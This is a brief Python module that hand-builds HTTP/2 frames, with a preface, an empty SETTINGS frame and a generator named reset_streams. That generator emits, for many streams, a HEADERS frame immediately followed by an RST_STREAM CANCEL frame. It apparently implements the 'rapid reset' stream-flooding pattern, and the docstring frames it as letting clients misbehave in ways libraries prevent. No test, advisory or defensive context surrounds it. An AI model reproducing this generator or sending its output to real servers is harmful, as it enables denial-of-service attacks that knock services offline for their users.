"""HTTP/2 as bytes, for clients that a library would not let misbehave (RFC 9113, sections 3.4 and 4.1)."""


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")  # what a client says first


def reset_streams(count, headers):
    """The bytes of each of `count` streams that are opened with these headers (HPACK) and reset at once."""
    cancel = (8).to_bytes(4, "big")
    for stream in range(1, 2 * count, 2):
        yield frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel)
